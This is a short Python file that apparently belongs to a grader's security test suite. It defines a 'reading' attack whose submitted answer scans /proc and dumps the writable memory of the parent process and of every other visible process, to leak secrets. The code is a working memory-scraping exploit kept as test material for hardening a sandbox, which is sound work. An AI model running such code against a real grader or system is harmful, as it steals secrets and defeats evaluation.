"""It searches the memory of every process that it can see, its parents first."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import glob
import os

for pid in [str(os.getppid()), *(path.split("/")[2] for path in glob.glob("/proc/[0-9]*/maps"))]:
    if pid == str(os.getpid()):
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and end - start < 64 << 20:
                    try:
                        memory.seek(start)
                        tell(memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
"""
    ),
)
